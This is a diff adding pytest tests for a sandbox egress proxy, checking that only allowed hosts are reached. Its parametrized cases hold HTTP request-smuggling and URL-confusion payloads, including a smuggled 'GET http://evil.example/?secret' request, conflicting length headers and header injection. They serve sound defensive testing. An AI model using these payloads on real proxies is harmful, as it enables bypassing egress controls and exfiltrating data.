@@ -2,10 +2,12 @@
 
 from __future__ import annotations
 
+import asyncio
 import os
 import socket
 import subprocess
 import sys
+import threading
 import time
 from contextlib import suppress
 from dataclasses import replace
@@ -15,7 +17,7 @@ import pytest
 
 from skillrun.overlay.mount.hidden_credentials import hidden
 from skillrun.overlay.mount.spec import Account
-from skillrun.overlay.process.egress_proxy import _forwarded, is_here, is_inner, is_own
+from skillrun.overlay.process.egress_proxy import Egress, _forwarded, is_here, is_inner, is_own
 from skillrun.overlay.process.probe import probe
 from skillrun.policy.admitted import hosts_of
 from skillrun.policy.judge import Judge
@@ -265,6 +267,100 @@ def test_what_is_forwarded_names_the_host_that_was_let_through() -> None:
     )
     sent = _forwarded(head, "me@good.invalid:8080").split(b"\r\n")
     assert sent == [b"Host: good.invalid:8080", b"Accept: */*", b"Connection: close", b"", b""]
+
+
+def asked_through(server: socket.socket, request: bytes) -> bytes:
+    """What the proxy of this machine, which believes all it hears, is told when something inside sends a request."""
+    heard = list[bytes]()
+
+    def believe() -> None:
+        with suppress(OSError):
+            connection, _ = server.accept()
+            with connection:
+                connection.settimeout(1)
+                with suppress(TimeoutError):
+                    while data := connection.recv(65536):
+                        heard.append(data)
+                        connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
+
+    believer = threading.Thread(target=believe)
+    believer.start()
+    listener = socket.create_server(("127.0.0.1", 0))
+    port, environment = listener.getsockname()[1], {"http_proxy": f"http://127.0.0.1:{server.getsockname()[1]}"}
+    egress = Egress(listener.detach(), ["good.example"], environment)
+    with socket.create_connection(("127.0.0.1", port), 3) as inside:
+        head, _, behind = request.partition(b"\r\n\r\n")
+        inside.sendall(head + b"\r\n\r\n")
+        with suppress(OSError):  # it may be refused already
+            time.sleep(0.2)
+            inside.sendall(behind)
+            inside.shutdown(socket.SHUT_WR)
+            while inside.recv(65536):
+                pass
+    server.close()
+    believer.join()
+    egress.close()
+    return b"".join(heard)
+
+
+NEXT = b"GET http://evil.example/?secret HTTP/1.1\r\nHost: evil.example\r\n\r\n"
+
+
+@pytest.mark.parametrize(
+    "request_",
+    [
+        b"GET http://good.example/ HTTP/1.1\r\nHost: good.example\r\n\r\n" + NEXT,
+        b"GET http://good.example/ HTTP/1.1\r\nConnection: keep-alive\r\nProxy-Connection: keep-alive\r\n\r\n" + NEXT,
+        b"POST http://good.example/ HTTP/1.1\r\nContent-Length: 2\r\n\r\nab" + NEXT,
+        b"POST http://good.example/ HTTP/1.1\r\nContent-Length: 2\r\nContent-Length: 9\r\n\r\nab" + NEXT,
+        b"POST http://good.example/ HTTP/1.1\r\nContent-Length: +2\r\n\r\nab" + NEXT,
+        b"POST http://good.example/ HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + NEXT,
+        b"POST http://good.example/ HTTP/1.1\r\nContent-Length: 200\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + NEXT,
+        b"GET http://evil.example\\@good.example/ HTTP/1.1\r\n\r\n",
+        b"GET http://evil.example\t@good.example/ HTTP/1.1\r\n\r\n",
+        b"GET http://good.example@evil.example/ HTTP/1.1\r\n\r\n",
+        b"GET http://good.example/\nHost:evil.example HTTP/1.1\r\n\r\n",
+        b"GET ftp://evil.example@good.example/ HTTP/1.1\r\n\r\n",
+        b"GET //evil.example@good.example/ HTTP/1.1\r\n\r\n",
+        b"CONNECT evil.example:443\t@good.example:443 HTTP/1.1\r\n\r\n",
+    ],
+)
+def test_a_proxy_of_this_machine_hears_of_no_other_host(request_: bytes) -> None:
+    """However a request is written, whatever follows it, and however little that proxy minds: only what was decided on."""
+    server = socket.create_server(("127.0.0.1", 0))
+    server.settimeout(1)
+    assert b"evil" not in asked_through(server, request_)
+
+
+def test_it_hears_of_the_host_that_was_let_through() -> None:
+    """What the test above sends is not lost altogether: a request and its body arrive."""
+    server = socket.create_server(("127.0.0.1", 0))
+    request = b"POST http://good.example/up?a=b HTTP/1.1\r\nContent-Length: 4\r\n\r\nbody"
+    heard = asked_through(server, request)
+    assert heard.startswith(b"POST http://good.example/up?a=b HTTP/1.1\r\nHost: good.example\r\n")
+    assert heard.endswith(b"\r\n\r\nbody")
+
+
+def test_nor_does_one_lead_to_what_this_machine_offers_its_network() -> None:
+    """A name agreed to by a pattern may lead to an address of this machine's own, where servers listen; then it is refused."""
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
+        with suppress(OSError):
+            one.connect(("192.0.2.1", 9))  # sends nothing
+        own = one.getsockname()[0]
+    if own == "0.0.0.0":
+        pytest.skip("this machine has no address in a network")
+    egress = Egress(socket.create_server(("127.0.0.1", 0)).detach(), ["*.evil.example", "mirror.example"], {})
+
+    async def addresses(host: str, port: int) -> list[str]:
+        return [own]
+
+    egress._addresses = addresses  # type: ignore[method-assign]  # what a name server of theirs would say
+    try:
+        with pytest.raises(OSError, match="this machine itself"):
+            asyncio.run(egress._outside("x.evil.example", 80, "http", True))
+        assert asyncio.run(egress._outside("mirror.example", 80, "http", True)) == own
+    finally:
+        egress.close()
 
 
 @pytest.mark.root
